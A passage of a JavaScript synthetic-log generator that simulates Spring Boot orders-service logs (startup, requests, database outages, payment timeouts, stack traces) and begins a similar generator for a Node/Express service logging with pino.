    ['s_hk_done', 'com.zaxxer.hikari.HikariDataSource', 'HikariPool-1 - Start completed.'],
    [
      's_jta',
      'o.h.e.t.j.p.i.JtaPlatformInitiator',
      "HHH000489: No JTA platform available (set 'hibernate.transaction.jta.platform' to enable JTA platform integration)"
    ],
    [
      's_emf',
      'j.LocalContainerEntityManagerFactoryBean',
      "Initialized JPA EntityManagerFactory for persistence unit 'default'"
    ],
    [
      's_oiv',
      'JpaBaseConfiguration$JpaWebConfiguration',
      'spring.jpa.open-in-view is enabled by default. Therefore, database queries may be performed during view rendering. Explicitly configure spring.jpa.open-in-view to disable this warning'
    ],
    [
      's_actuator',
      'o.s.b.a.e.web.EndpointLinksResolver',
      "Exposing <*> endpoints beneath base path '<*>'"
    ],
    [
      's_tomcat_started',
      'o.s.b.w.embedded.tomcat.TomcatWebServer',
      "Tomcat started on port <*> (http) with context path '<*>'"
    ],
    [
      's_started',
      'com.example.orders.OrdersApplication',
      'Started OrdersApplication in <*> seconds (process running for <*>)'
    ],
    [
      's_ds_init',
      'o.a.c.c.C.[Tomcat].[localhost].[/]',
      "Initializing Spring DispatcherServlet 'dispatcherServlet'"
    ],
    [
      's_servlet_init',
      'o.s.web.servlet.DispatcherServlet',
      "Initializing Servlet 'dispatcherServlet'"
    ],
    ['s_servlet_done', 'o.s.web.servlet.DispatcherServlet', 'Completed initialization in <*> ms'],
    [
      'd_graceful',
      'o.s.b.w.e.tomcat.GracefulShutdown',
      'Commencing graceful shutdown. Waiting for active requests to complete'
    ],
    ['d_graceful_done', 'o.s.b.w.e.tomcat.GracefulShutdown', 'Graceful shutdown complete'],
    [
      'd_emf_close',
      'j.LocalContainerEntityManagerFactoryBean',
      "Closing JPA EntityManagerFactory for persistence unit 'default'"
    ],
    ['d_hk_shut', 'com.zaxxer.hikari.HikariDataSource', 'HikariPool-1 - Shutdown initiated...'],
    ['d_hk_shut_done', 'com.zaxxer.hikari.HikariDataSource', 'HikariPool-1 - Shutdown completed.'],
    ['r_req', 'o.s.web.servlet.DispatcherServlet', '<*> "<*>", parameters={<*>}'],
    ['r_completed', 'o.s.web.servlet.DispatcherServlet', 'Completed <*>'],
    [
      'r_order',
      'c.e.orders.service.OrderService',
      'Order <*> created for customer <*> (<*> items, total <*> <*>)'
    ],
    ['r_reserved', 'c.e.o.inventory.InventoryClient', 'Inventory reserved for order <*>: <*>'],
    [
      'r_authorized',
      'c.e.orders.payment.PaygateClient',
      'Payment authorized for order <*> via <*> in <*> ms'
    ],
    [
      'r_retry',
      'c.e.orders.payment.PaygateClient',
      'Retrying payment capture for order <*> after ERROR from upstream paygate (attempt <*>/<*>)'
    ],
    [
      'r_pay_failed',
      'c.e.orders.payment.PaygateClient',
      'Payment capture for order <*> failed: <*>'
    ],
    [
      'r_cache_miss',
      'c.e.orders.catalog.PriceService',
      'Cache miss for key <*>, loading from database'
    ],
    [
      'r_cache_ratio',
      'c.e.orders.catalog.PriceService',
      'Cache hit ratio <*>% over last <*> lookups'
    ],
    ['r_price', 'c.e.orders.catalog.PriceService', 'Product "<*>" price updated from <*> to <*>'],
    ['r_outbox_poll', 'c.e.orders.outbox.OutboxRelay', 'Outbox poll found <*> pending events'],
    ['r_outbox_pub', 'c.e.orders.outbox.OutboxRelay', 'Published <*> events to <*> in <*> ms'],
    [
      'r_slow',
      'c.e.orders.web.RequestTimingFilter',
      'Slow request: <*> <*> took <*> ms (threshold <*> ms)'
    ],
    ['r_resolved', '.w.s.m.s.DefaultHandlerExceptionResolver', 'Resolved [<*>]'],
    ['r_bind', 'org.hibernate.orm.jdbc.bind', 'binding parameter (<*>:<*>) <- [<*>]'],
    [
      'r_starvation',
      'com.zaxxer.hikari.pool.HikariPool',
      'HikariPool-1 - Thread starvation or clock leap detected (housekeeper delta=<*>).'
    ],
    [
      'r_broken',
      'com.zaxxer.hikari.pool.PoolBase',
      'HikariPool-1 - Connection <*> marked as broken because of SQLSTATE(<*>), ErrorCode(<*>)'
    ],
    ['r_sql_error', 'o.h.engine.jdbc.spi.SqlExceptionHelper', 'SQL Error: <*>, SQLState: <*>'],
    [
      'r_not_available',
      'o.h.engine.jdbc.spi.SqlExceptionHelper',
      'HikariPool-1 - Connection is not available, request timed out after <*>ms (total=<*>, active=<*>, idle=<*>, waiting=<*>)'
    ],
    [
      'r_servlet_ex',
      'o.a.c.c.C.[.[.[/].[dispatcherServlet]',
      'Servlet.service() for servlet [dispatcherServlet] in context with path [] threw exception [Request processing failed: <*>] with root cause'
    ],
    [
      'r_cb',
      'c.e.orders.config.ResilienceConfig',
      "CircuitBreaker '<*>' changed state from <*> to <*>"
    ],
    ['r_capture_job', 'c.e.orders.payment.CaptureJob', 'Capture job failed for batch <*>'],
    ['r_unexpected', 'c.e.orders.service.OrderService', 'Unexpected error processing order <*>'],
    [
      'r_email',
      'c.e.orders.notify.EmailNotifier',
      'Failed to send order confirmation email to <*>: <*>'
    ],
    [
      'x_sqltransient',
      '',
      'java.sql.SQLTransientConnectionException: HikariPool-1 - Connection is not available, request timed out after <*>ms (total=<*>, active=<*>, idle=<*>, waiting=<*>)'
    ],
    ['x_timeout_root', '', 'java.net.SocketTimeoutException: Read timed out'],
    [
      'x_resource',
      '',
      'org.springframework.web.client.ResourceAccessException: I/O error on POST request for "<*>": Read timed out'
    ],
    ['x_caused_timeout', '', 'Caused by: java.net.SocketTimeoutException: Read timed out'],
    [
      'x_npe',
      '',
      'java.lang.NullPointerException: Cannot invoke "<*>" because the return value of "<*>" is null'
    ],
    ['x_frame', '', 'at <*>'],
    ['x_omitted', '', '... <*> common frames omitted']
  ]
  const LOGGER = new Map(T.map(([k, l]) => [k, l]))
  const LV = { TRACE: 'trace', DEBUG: 'debug', INFO: 'info', WARN: 'warning', ERROR: 'error' }
  const thread = (t) => (t.length > 15 ? t.slice(-15) : t.padStart(15))
  function Sx(c, k, L, th, msg) {
    const lg = LOGGER.get(k)
    c.out(
      k,
      LV[L],
      `${isoMs(c.t)} ${L.padStart(5)} 1 --- [orders-api] [${thread(th)}] ${lg.padEnd(40)} : `,
      msg
    )
  }
  const S = Sx
  const exec = (c) => `http-nio-8080-exec-${c.r.int(1, 10)}`
  const J = (jar) => ` ~[${jar}]`
  const HK = J('HikariCP-5.1.0.jar!/:na')
  const HB = J('hibernate-core-6.6.4.Final.jar!/:6.6.4.Final')
  const APP = J('classes!/:1.8.2')
  const NA = J('na:na')
  const FR_HIKARI = [
    `com.zaxxer.hikari.pool.HikariPool.createTimeoutException(HikariPool.java:686)${HK}`,
    `com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:179)${HK}`,
    `com.zaxxer.hikari.pool.HikariPool.getConnection(HikariPool.java:144)${HK}`,
    `com.zaxxer.hikari.HikariDataSource.getConnection(HikariDataSource.java:127)${HK}`,
    `org.hibernate.engine.jdbc.connections.internal.DatasourceConnectionProviderImpl.getConnection(DatasourceConnectionProviderImpl.java:122)${HB}`,
    `org.hibernate.internal.NonContextualJdbcConnectionAccess.obtainConnection(NonContextualJdbcConnectionAccess.java:46)${HB}`,
    `org.hibernate.resource.jdbc.internal.LogicalConnectionManagedImpl.acquireConnectionIfNeeded(LogicalConnectionManagedImpl.java:113)${HB}`,
    `org.springframework.orm.jpa.JpaTransactionManager.doBegin(JpaTransactionManager.java:420)${J('spring-orm-6.2.2.jar!/:6.2.2')}`,
    `com.example.orders.service.OrderService$$SpringCGLIB$$0.placeOrder(<generated>)${APP}`,
    `java.base/java.lang.Thread.run(Thread.java:1583)${NA}`
  ]
  const FR_SOCKET = [
    `java.base/sun.nio.ch.NioSocketImpl.timedRead(NioSocketImpl.java:278)${NA}`,
    `java.base/sun.nio.ch.NioSocketImpl.implRead(NioSocketImpl.java:304)${NA}`,
    `java.base/java.net.Socket$SocketInputStream.read(Socket.java:1099)${NA}`,
    `java.base/sun.security.ssl.SSLSocketInputRecord.read(SSLSocketInputRecord.java:489)${NA}`
  ]
  const FR_REST = [
    `org.springframework.web.client.RestTemplate.doExecute(RestTemplate.java:883)${J('spring-web-6.2.2.jar!/:6.2.2')}`,
    `org.springframework.web.client.RestTemplate.postForObject(RestTemplate.java:498)${J('spring-web-6.2.2.jar!/:6.2.2')}`,
    `com.example.orders.payment.PaygateClient.capture(PaygateClient.java:88)${APP}`
  ]
  const frames = (c, l) => {
    for (const f of l) c.out('x_frame', 'error', '\t', `at ${f}`)
  }
  function startup(c) {
    const r = c.r
    const t0 = c.t
    const S = (...a) => {
      c.tick(r.int(5, 420))
      Sx(...a)
    }
    S(
      c,
      's_starting',
      'INFO',
      'main',
      'Starting OrdersApplication v1.8.2 using Java 21.0.6 with PID 1 (/app/app.jar started by spring in /app)'
    )
    S(c, 's_profile', 'INFO', 'main', 'The following 1 profile is active: "prod"')
    S(
      c,
      's_repo_boot',
      'INFO',
      'main',
      'Bootstrapping Spring Data JPA repositories in DEFAULT mode.'
    )
    S(
      c,
      's_repo_done',
      'INFO',
      'main',
      `Finished Spring Data repository scanning in ${r.int(90, 260)} ms. Found 7 JPA repository interfaces.`
    )
    S(c, 's_tomcat_init', 'INFO', 'main', 'Tomcat initialized with port 8080 (http)')
    S(c, 's_service', 'INFO', 'main', 'Starting service [Tomcat]')
    S(c, 's_engine', 'INFO', 'main', 'Starting Servlet engine: [Apache Tomcat/10.1.34]')
    S(c, 's_ctx', 'INFO', 'main', 'Initializing Spring embedded WebApplicationContext')
    S(
      c,
      's_root',
      'INFO',
      'main',
      `Root WebApplicationContext: initialization completed in ${r.int(1400, 2600)} ms`
    )
    S(c, 's_pu', 'INFO', 'main', 'HHH000204: Processing PersistenceUnitInfo [name: default]')
    S(c, 's_hver', 'INFO', 'main', 'HHH000412: Hibernate ORM core version 6.6.4.Final')
    S(c, 's_hk_start', 'INFO', 'main', 'HikariPool-1 - Starting...')
    S(
      c,
      's_hk_added',
      'INFO',
      'main',
      `HikariPool-1 - Added connection org.postgresql.jdbc.PgConnection@${r.hex(r.int(7, 8))}`
    )
    S(c, 's_hk_done', 'INFO', 'main', 'HikariPool-1 - Start completed.')
    S(
      c,
      's_jta',
      'INFO',
      'main',
      "HHH000489: No JTA platform available (set 'hibernate.transaction.jta.platform' to enable JTA platform integration)"
    )
    S(
      c,
      's_emf',
      'INFO',
      'main',
      "Initialized JPA EntityManagerFactory for persistence unit 'default'"
    )
    S(
      c,
      's_oiv',
      'WARN',
      'main',
      'spring.jpa.open-in-view is enabled by default. Therefore, database queries may be performed during view rendering. Explicitly configure spring.jpa.open-in-view to disable this warning'
    )
    S(c, 's_actuator', 'INFO', 'main', "Exposing 3 endpoints beneath base path '/actuator'")
    S(
      c,
      's_tomcat_started',
      'INFO',
      'main',
      "Tomcat started on port 8080 (http) with context path '/'"
    )
    const s = (c.t - t0) / 1000 + 4 + r.next() * 3
    S(
      c,
      's_started',
      'INFO',
      'main',
      `Started OrdersApplication in ${f3(s)} seconds (process running for ${f3(s + 0.5 + r.next() * 0.4)})`
    )
    c.tick(r.int(3000, 9000))
    const th = exec(c)
    S(c, 's_ds_init', 'INFO', th, "Initializing Spring DispatcherServlet 'dispatcherServlet'")
    S(c, 's_servlet_init', 'INFO', th, "Initializing Servlet 'dispatcherServlet'")
    S(c, 's_servlet_done', 'INFO', th, `Completed initialization in ${r.int(1, 3)} ms`)
  }
  function shutdownRestart(c) {
    S(
      c,
      'd_graceful',
      'INFO',
      'ionShutdownHook',
      'Commencing graceful shutdown. Waiting for active requests to complete'
    )
    S(c, 'd_graceful_done', 'INFO', 'tomcat-shutdown', 'Graceful shutdown complete')
    S(
      c,
      'd_emf_close',
      'INFO',
      'ionShutdownHook',
      "Closing JPA EntityManagerFactory for persistence unit 'default'"
    )
    S(c, 'd_hk_shut', 'INFO', 'ionShutdownHook', 'HikariPool-1 - Shutdown initiated...')
    S(c, 'd_hk_shut_done', 'INFO', 'ionShutdownHook', 'HikariPool-1 - Shutdown completed.')
    c.tick(40000)
    startup(c)
  }
  const ROUTES = [
    [30, ['GET', (r) => `/api/orders/${r.int(900000, 999999)}`, 200, 'OK']],
    [15, ['GET', () => '/api/orders', 200, 'OK', true]],
    [12, ['GET', (r) => `/api/products/${r.int(1000, 9999)}/price`, 200, 'OK']],
    [6, ['GET', (r) => `/api/orders/${r.int(100000, 899999)}`, 404, 'NOT_FOUND']],
    [4, ['PUT', (r) => `/api/orders/${r.int(900000, 999999)}/status`, 200, 'OK']],
    [3, ['DELETE', (r) => `/api/orders/${r.int(900000, 999999)}`, 405, 'METHOD_NOT_ALLOWED']]
  ]
  function request(c) {
    const v = c.r.wpick(ROUTES)
    const th = exec(c)
    const path = v[1](c.r)
    S(c, 'r_req', 'DEBUG', th, `${v[0]} "${path}", parameters={${v[4] ? 'masked' : ''}}`)
    if (path.endsWith('/price') && c.r.chance(0.5))
      S(
        c,
        'r_cache_miss',
        'DEBUG',
        th,
        `Cache miss for key price:SKU-${c.r.int(1000, 9999)}:EUR, loading from database`
      )
    if (v[2] === 405)
      S(
        c,
        'r_resolved',
        'WARN',
        th,
        "Resolved [org.springframework.web.HttpRequestMethodNotSupportedException: Request method 'DELETE' is not supported]"
      )
    if (c.r.chance(0.03))
      S(
        c,
        'r_slow',
        'WARN',
        th,
        `Slow request: ${v[0]} ${path} took ${c.r.int(1200, 4800)} ms (threshold 1000 ms)`
      )
    S(c, 'r_completed', 'DEBUG', th, `Completed ${v[2]} ${v[3]}`)
  }
  const NAMES = [
    'Anna Lindqvist',
    'Jonas Müller',
    'Zoë Martin',
    'Li Wei',
    'Søren Kjær',
    'María José Pérez',
    'Tom Baker'
  ]
  const PRODUCTS = [
    'Café crème 250 g',
    'Bircher-Müsli Nuss',
    'Crème brûlée kit',
    'Trail runner “Aero” 2',
    'Merino socks (3-pack)',
    'Smørrebrød board'
  ]
  function createOrder(c) {
    const r = c.r
    const th = exec(c)
    const oid = r.int(900000, 999999)
    S(c, 'r_req', 'DEBUG', th, 'POST "/api/orders", parameters={}')
    if (r.chance(0.08)) {
      S(
        c,
        'r_resolved',
        'WARN',
        th,
        `Resolved [org.springframework.web.bind.MethodArgumentNotValidException: Validation failed for argument [0] in public org.springframework.http.ResponseEntity<com.example.orders.web.OrderDto> com.example.orders.web.OrderController.create(com.example.orders.web.CreateOrderRequest): [Field error in object 'createOrderRequest' on field 'items': rejected value [[]]; codes [NotEmpty.createOrderRequest.items,NotEmpty.items,NotEmpty]; default message [must not be empty]] ]`
      )
      S(c, 'r_completed', 'DEBUG', th, 'Completed 400 BAD_REQUEST')
      return
    }
    const n = r.int(1, 5)
    const skus = []
    for (let i = 0; i < n; i++) skus.push(`SKU-${r.int(1000, 9999)} x${r.int(1, 3)}`)
    if (r.chance(0.3))
      for (let i = r.int(2, 3); i > 0; i--)
        S(
          c,
          'r_bind',
          'TRACE',
          th,
          `binding parameter (${i}:${r.pick(['BIGINT', 'VARCHAR', 'INTEGER'])}) <- [${r.chance(0.5) ? oid : `SKU-${r.int(1000, 9999)}`}]`
        )
    S(c, 'r_reserved', 'INFO', th, `Inventory reserved for order ${oid}: [${skus.join(', ')}]`)
    S(
      c,
      'r_order',
      'INFO',
      th,
      `Order ${oid} created for customer ${r.int(10000, 99999)} (${n} items, total ${f2(r.int(999, 40000) / 100)} ${r.pick(['EUR', 'EUR', 'USD', 'GBP'])})`
    )
    if (r.chance(0.12))
      S(
        c,
        'r_retry',
        'INFO',
        th,
        `Retrying payment capture for order ${oid} after ERROR from upstream paygate (attempt 2/3)`
      )
    if (r.chance(0.06)) {
      S(
        c,
        'r_pay_failed',
        'WARN',
        th,
        `Payment capture for order ${oid} failed: ${r.pick(['card_declined', 'insufficient_funds', '3ds_required', 'processing_error: upstream returned 502 Bad Gateway'])}`
      )
      S(c, 'r_completed', 'DEBUG', th, 'Completed 402 PAYMENT_REQUIRED')
      return
    }
    S(
      c,
      'r_authorized',
      'INFO',
      th,
      `Payment authorized for order ${oid} via ${r.pick(['card', 'card', 'paypal', 'klarna', 'apple_pay'])} in ${r.int(180, 1400)} ms`
    )
    S(c, 'r_completed', 'DEBUG', th, 'Completed 201 CREATED')
  }
  function outbox(c) {
    const n = c.r.wpick([
      [55, 0],
      [30, c.r.int(1, 5)],
      [15, c.r.int(6, 40)]
    ])
    S(c, 'r_outbox_poll', 'DEBUG', 'scheduling-1', `Outbox poll found ${n} pending events`)
    if (n > 0)
      S(
        c,
        'r_outbox_pub',
        'INFO',
        'scheduling-1',
        `Published ${n} events to arn:aws:sns:us-east-1:123456789012:order-events in ${c.r.int(20, 400)} ms`
      )
  }
  function dbOutage(c) {
    const r = c.r
    for (let i = 0; i < 2; i++)
      S(
        c,
        'r_broken',
        'WARN',
        exec(c),
        `HikariPool-1 - Connection org.postgresql.jdbc.PgConnection@${r.hex(8)} marked as broken because of SQLSTATE(08006), ErrorCode(0)`
      )
    for (let k = 0; k < 2; k++) {
      c.tick(r.int(25000, 31000))
      const th = exec(c)
      const waited = 30000 + r.int(1, 9)
      const stats = `(total=10, active=10, idle=0, waiting=${r.int(2, 9)})`
      S(c, 'r_sql_error', 'WARN', th, 'SQL Error: 0, SQLState: 08001')
      S(
        c,
        'r_not_available',
        'ERROR',
        th,
        `HikariPool-1 - Connection is not available, request timed out after ${waited}ms ${stats}`
      )
      S(
        c,
        'r_servlet_ex',
        'ERROR',
        th,
        'Servlet.service() for servlet [dispatcherServlet] in context with path [] threw exception [Request processing failed: org.springframework.transaction.CannotCreateTransactionException: Could not open JPA EntityManager for transaction] with root cause'
      )
      c.out(
        'x_sqltransient',
        'error',
        '',
        `java.sql.SQLTransientConnectionException: HikariPool-1 - Connection is not available, request timed out after ${waited}ms ${stats}`
      )
      frames(c, FR_HIKARI.slice(0, r.int(7, 10)))
    }
  }
  function paygateTimeout(c) {
    const th = exec(c)
    S(
      c,
      'r_servlet_ex',
      'ERROR',
      th,
      'Servlet.service() for servlet [dispatcherServlet] in context with path [] threw exception [Request processing failed: org.springframework.web.client.ResourceAccessException: I/O error on POST request for "https://paygate.internal/v2/captures": Read timed out] with root cause'
    )
    c.out('x_timeout_root', 'error', '', 'java.net.SocketTimeoutException: Read timed out')
    frames(c, [...FR_SOCKET, ...FR_REST])
  }
  function captureJob(c) {
    S(c, 'r_capture_job', 'ERROR', 'scheduling-1', `Capture job failed for batch ${c.r.uuid()}`)
    c.out(
      'x_resource',
      'error',
      '',
      'org.springframework.web.client.ResourceAccessException: I/O error on POST request for "https://paygate.internal/v2/captures": Read timed out'
    )
    frames(c, [
      ...FR_REST,
      `com.example.orders.payment.CaptureJob.run(CaptureJob.java:54)${APP}`,
      `org.springframework.scheduling.support.ScheduledMethodRunnable.runInternal(ScheduledMethodRunnable.java:130)${J('spring-context-6.2.2.jar!/:6.2.2')}`
    ])
    c.out(
      'x_caused_timeout',
      'error',
      '',
      'Caused by: java.net.SocketTimeoutException: Read timed out'
    )
    frames(c, FR_SOCKET.slice(0, 3))
    c.out('x_omitted', 'error', '\t', `... ${c.r.int(14, 19)} common frames omitted`)
  }
  function npe(c) {
    const th = exec(c)
    S(
      c,
      'r_unexpected',
      'ERROR',
      th,
      `Unexpected error processing order ${c.r.int(900000, 999999)}`
    )
    c.out(
      'x_npe',
      'error',
      '',
      'java.lang.NullPointerException: Cannot invoke "com.example.orders.domain.Address.getCountry()" because the return value of "com.example.orders.domain.Customer.getShippingAddress()" is null'
    )
    frames(c, [
      `com.example.orders.tax.TaxService.rateFor(TaxService.java:41)${APP}`,
      `com.example.orders.service.OrderService.placeOrder(OrderService.java:97)${APP}`,
      `com.example.orders.web.OrderController.create(OrderController.java:52)${APP}`,
      `java.base/jdk.internal.reflect.DirectMethodHandleAccessor.invoke(DirectMethodHandleAccessor.java:103)${NA}`
    ])
  }
  return {
    name: 'spring-boot',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(100, 9000),
    intra: 8,
    templates: T.map(([k, , tpl]) => [k, tpl]),
    filler: request,
    episodes: [
      { at: [0], run: startup },
      { at: [0.53], run: shutdownRestart },
      { w: 40, run: request },
      { w: 12, run: createOrder },
      { w: 10, run: outbox },
      {
        w: 3,
        run: (c) =>
          S(
            c,
            'r_cache_ratio',
            'DEBUG',
            'scheduling-1',
            `Cache hit ratio ${(80 + c.r.next() * 19).toFixed(1)}% over last ${c.r.int(800, 5000)} lookups`
          )
      },
      {
        w: 3,
        run: (c) => {
          const a = c.r.int(199, 9999)
          S(
            c,
            'r_price',
            'INFO',
            'scheduling-1',
            `Product "${c.r.pick(PRODUCTS)}" price updated from ${f2(a / 100)} to ${f2((a + c.r.int(-300, 300)) / 100)}`
          )
        }
      },
      {
        n: 2,
        run: (c) =>
          S(
            c,
            'r_starvation',
            'WARN',
            'l-1 housekeeper',
            `HikariPool-1 - Thread starvation or clock leap detected (housekeeper delta=${c.r.int(1, 2)}m${c.r.int(1, 59)}s${c.r.int(1, 999)}ms).`
          )
      },
      { at: [0.71], run: dbOutage },
      { n: 2, run: paygateTimeout },
      { n: 1, run: captureJob },
      {
        n: 2,
        run: (c) => {
          S(
            c,
            'r_cb',
            'WARN',
            exec(c),
            "CircuitBreaker 'paygate' changed state from CLOSED to OPEN"
          )
          c.tick(60000)
          S(
            c,
            'r_cb',
            'WARN',
            exec(c),
            "CircuitBreaker 'paygate' changed state from OPEN to HALF_OPEN"
          )
          c.tick(c.r.int(2000, 9000))
          S(
            c,
            'r_cb',
            'WARN',
            exec(c),
            "CircuitBreaker 'paygate' changed state from HALF_OPEN to CLOSED"
          )
        }
      },
      { n: 1, run: npe },
      {
        n: 2,
        run: (c) =>
          S(
            c,
            'r_email',
            'ERROR',
            'task-3',
            `Failed to send order confirmation email to ${c.r.pick(NAMES).toLowerCase().replace(/ /g, '.')}@example.org: ${c.r.pick(['Throttling: Maximum sending rate exceeded.', 'MessageRejected: Email address is not verified.'])}`
          )
      }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// node-express: an Express 4 web BFF on ECS Fargate (awslogs driver) logging with pino and
// pino-http (JSON, one object per line), plus what npm and Node print as plain text (the npm
// start banner, deprecation warnings, ioredis's unhandled-error print, npm's own error report).

function nodeExpress() {
  const REQ =
    '"req":{"id":<*>,"method":"<*>","url":"<*>","query":<*>,"params":<*>,"headers":<*>,"remoteAddress":"<*>","remotePort":<*>}'
  const RES = '"res":{"statusCode":<*>,"headers":<*>}'
  const T = [
    ['req_completed', `{${REQ},${RES},"responseTime":<*>,"msg":"request completed"}`],
    [
      'req_errored',
      `{${REQ},${RES},"err":{"type":"<*>","message":"<*>","stack":"<*>"},"responseTime":<*>,"msg":"request errored"}`
    ],
    ['req_aborted', `{${REQ},${RES},"responseTime":<*>,"msg":"request aborted"}`],
    ['listening', '{"port":<*>,"env":"<*>","msg":"server listening"}'],
    ['flags', '{"module":"flags","flags":<*>,"msg":"feature flags loaded"}'],
    ['redis_connected', '{"module":"redis","host":"<*>","msg":"redis connected"}'],
    ['redis_closed', '{"module":"redis","msg":"redis connection closed"}'],
    [
      'redis_reconnect',
      '{"module":"redis","attempt":<*>,"delayMs":<*>,"msg":"reconnecting to redis"}'
    ],
    ['redis_error', '{"module":"redis","err":<*>,"msg":"redis connection error"}'],
    ['cart_updated', '{"module":"cart","cartId":"<*>","items":<*>,"msg":"cart updated"}'],
    ['cache_lookup', '{"module":"cart","key":"<*>","hit":<*>,"msg":"cache lookup"}'],
    [
      'checkout_started',
      '{"module":"checkout","orderId":"<*>","amount":<*>,"currency":"<*>","msg":"checkout started"}'
    ],
    [
      'checkout_completed',
      '{"module":"checkout","orderId":"<*>","durationMs":<*>,"msg":"checkout completed"}'
    ],
    [
      'checkout_failed',
      '{"module":"checkout","orderId":"<*>","reason":"<*>","msg":"checkout failed"}'
    ],
    ['session_refreshed', '{"module":"auth","userId":"<*>","msg":"session refreshed"}'],
    ['login_rejected', '{"module":"auth","reason":"<*>","ip":"<*>","msg":"login rejected"}'],
    [
      'upstream_retry',
      '{"module":"http","upstream":"<*>","status":<*>,"attempt":<*>,"msg":"retrying after error from upstream"}'
    ],
    ['budget_ok', '{"module":"slo","budgetRemaining":<*>,"window":"<*>","msg":"error budget ok"}'],
    [
      'budget_burn',
      '{"module":"slo","budgetRemaining":<*>,"burnRate":<*>,"window":"<*>","msg":"error budget burning fast"}'
    ],
    ['slow_query', '{"module":"catalog","durationMs":<*>,"query":"<*>","msg":"slow query"}'],
    [
      'catalog_refreshed',
      '{"module":"catalog","count":<*>,"durationMs":<*>,"msg":"catalog cache refreshed"}'
    ],
    ['uncaught', '{"err":<*>,"msg":"uncaughtException"}'],
    ['shutdown', '{"signal":"<*>","msg":"shutting down, draining connections"}'],
    ['closed', '{"msg":"server closed"}'],
    ['npm_start', '> <*> start'],
    ['npm_cmd', '> node --enable-source-maps dist/server.js'],
    [
      'deprecation',
      '(node:<*>) [DEP0040] DeprecationWarning: The `punycode` module is deprecated. Please use a userland alternative instead.'
    ],
    ['trace_hint', '(Use `node --trace-deprecation ...` to show where the warning was created)'],
    ['ioredis', '[ioredis] Unhandled error event: Error: <*>'],
    ['stack_frame', 'at <*>'],
    ['npm_err_code', 'code <*>'],
    ['npm_err_path', 'path <*>'],
    ['npm_err_failed', 'command failed'],
    ['npm_err_cmd', 'command sh -c <*>'],
    ['npm_err_log', 'A complete log of this run can be found in: <*>'],
    ['npm_notice_new', 'New <*> version of npm available! <*> -> <*>'],
    ['npm_notice_changelog', 'Changelog: <*>'],
    ['npm_notice_update', 'To update run: <*>']
  ]
  const PINO = { 10: 'trace', 20: 'debug', 30: 'info', 40: 'warning', 50: 'error', 60: 'critical' }
  // pino: logger[level](obj, msg) prints the header keys, the child bindings and obj in order,
  // then msg; the message text is the constant at the end of the template.
  function P(c, k, level, fields) {
    const obj = { ...fields, msg: /"msg":"([^"]*)"\}$/.exec(c.tplText(k))[1] }
    const msg = JSON.stringify(obj)
    const line = JSON.stringify({ level, time: c.t, pid: c.S.pid, hostname: c.S.host, ...obj })
    c.emit(k, PINO[level], line, msg)
  }
  const plain = (c, k, msg, header = '', lv = 'info') => c.out(k, lv, header, msg)
  const traceId = (c) => `Root=1-${Math.floor(c.t / 1000).toString(16)}-${c.r.hex(24)}`
  function reqObj(c, m, url) {
    const r = c.r
    const h = { host: 'shop.example.com' }
    h['x-forwarded-for'] = xffList(r)
    h['x-forwarded-proto'] = 'https'
    h['x-forwarded-port'] = '443'
    h['x-amzn-trace-id'] = traceId(c)
    const agent = ua(r)
    if (agent !== '-') h['user-agent'] = agent
    h.accept = r.pick(['application/json', '*/*', 'application/json, text/plain, */*'])
    if (m === 'POST' || m === 'PUT') {
      h['content-type'] = 'application/json'
      h['content-length'] = String(r.int(20, 900))
    }
    if (r.chance(0.6)) h.cookie = '[Redacted]'
    if (r.chance(0.2)) h.authorization = '[Redacted]'
    const q = {}
    const qi = url.indexOf('?')
    if (qi >= 0)
      for (const kv of url.slice(qi + 1).split('&'))
        q[kv.split('=')[0]] = decodeURIComponent(kv.split('=')[1].replace(/\+/g, ' '))
    c.S.reqId += 1
    return {
      id: c.S.reqId,
      method: m,
      url,
      query: q,
      params: {},
      headers: h,
      remoteAddress: `::ffff:10.0.${r.int(1, 3)}.${r.int(10, 250)}`,
      remotePort: r.int(32768, 60999)
    }
  }
  function resObj(c, st, len) {
    const h = { 'x-powered-by': 'Express' }
    if (st !== 204 && st !== 304) {
      h['content-type'] = 'application/json; charset=utf-8'
      h['content-length'] = String(len)
    }
    if (st === 200 || st === 304)
      h.etag = `W/"${len.toString(16)}-${c.r.alnum(27, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}"`
    if (st === 429) h['retry-after'] = String(c.r.int(1, 30))
    return { statusCode: st, headers: h }
  }
  const ROUTES = [
    [
      25,
      [
        'GET',
        () => '/api/cart',
        [
          [90, 200],
          [10, 401]
        ]
      ]
    ],
    [
      14,
      [
        'POST',
        () => '/api/cart/items',
        [
          [85, 200],
          [10, 400],
          [5, 409]
        ]
      ]
    ],
    [
      20,
      [
        'GET',
        (r) => `/api/products?category=${r.pick(CATS)}&page=${r.int(1, 5)}`,
        [
          [95, 200],
          [5, 304]
        ]
      ]
    ],
    [
      12,
      [
        'GET',
        (r) => `/api/products/${r.int(1000, 9999)}`,
        [
          [88, 200],
          [8, 404],
          [4, 304]
        ]
      ]
    ],
    [
      8,
      [
        'GET',
        (r) => `/api/recommendations?product=${r.int(1000, 9999)}`,
        [
          [85, 200],
          [15, 503]
        ]
      ]
    ],
    [
      6,
      [
        'GET',
        () => '/api/session',
        [
          [80, 200],
          [20, 401]
        ]
      ]
    ],
    [
      5,
      [
        'POST',
        () => '/api/checkout',
        [
          [80, 200],
          [8, 402],
          [7, 502],
          [5, 500]
        ]
      ]
    ],
    [
      3,
      [
        'POST',
        () => '/api/auth/login',
        [
          [75, 200],
          [18, 401],
          [7, 429]
        ]
      ]
    ],
    [3, ['DELETE', (r) => `/api/cart/items/${r.uuid()}`, [[100, 204]]]]
  ]
  function request(c, forced) {
    const r = c.r
    const v = forced ?? r.wpick(ROUTES)
    const url = v[1](r)
    const st = v[3] ?? r.wpick(v[2])
    const req = reqObj(c, v[0], url)
    const len = st === 204 || st === 304 ? 0 : r.int(2, 24000)
    const rt = Math.max(1, Math.round(r.dur(st >= 500 ? 900 : 35, 0.05)))
    const res = resObj(c, st, len)
    if (st >= 500) {
      const upstream = url.includes('recommendations') ? 'recs-api' : 'orders-api'
      const msg = `Request failed with status code ${st === 500 ? 500 : st}`
      const err = {
        type: 'AxiosError',
        message: msg,
